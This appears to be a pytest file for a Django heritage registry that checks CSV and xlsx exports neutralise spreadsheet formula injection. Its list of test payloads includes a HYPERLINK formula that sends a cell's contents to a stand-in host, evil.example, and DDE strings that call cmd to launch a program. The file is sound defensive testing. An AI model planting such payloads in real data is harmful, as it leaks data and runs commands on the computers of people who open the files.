"""Exports opened in a spreadsheet run nothing: text cells beginning with = + - @ (or tab/CR)
are neutralised in every CSV, and xlsx cells holding such text are text, never formulas."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from registry.models import Record, Region
from registry.services import indicator_state
from tests.catalog_builders import build_catalog

from .exchange_helpers import run_export

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_catalog():
    records = build_catalog()
    for i, attack in enumerate(ATTACKS):
        Record.objects.create(
            code=f"X-{i}", kind="building", name=attack, name_en=attack, address=attack,
            level="municipal", region_id="140728", parent=records["JZ-D-0001"],
            designated_on=records["JZ-B-0001"].designated_on,
        )  # fmt: skip
    # A region name is data too (an administrative change could bring any text in).
    Region.objects.filter(code="140000").update(name=ATTACKS[0])
    indicator_state.refresh()
    return records


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            if cell and cell.startswith(DANGEROUS):
                # Only numbers may begin with a sign.
                float(cell)
    return rows


def test_export_heritage_csv(hostile_catalog):
    rows = assert_csv_safe(run_export("--format", "csv"))
    names = {row[0]: row[2] for row in rows[1:]}
    for i, attack in enumerate(ATTACKS):
        assert names[f"X-{i}"] == "'" + attack  # kept whole, only made inert


@pytest.mark.parametrize("by", ["province", "county", "level", "none"])
def test_heritage_report_csv(hostile_catalog, tmp_path, by):
    path = tmp_path / "r.csv"
    call_command("heritage_report", "--by", by, "--format", "csv", "--output", str(path))
    rows = assert_csv_safe(path.read_text(encoding="utf-8"))
    if by == "province":
        assert any(row[1] == "'" + ATTACKS[0] for row in rows), rows


@pytest.mark.parametrize("by", ["province", "none"])
def test_report_page_downloads(client, hostile_catalog, by):
    response = client.get("/reports/csv/", {"by": by})
    assert response.status_code == 200
    assert_csv_safe(response.content.decode("utf-8"))
    response = client.get("/reports/xlsx/", {"by": by})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
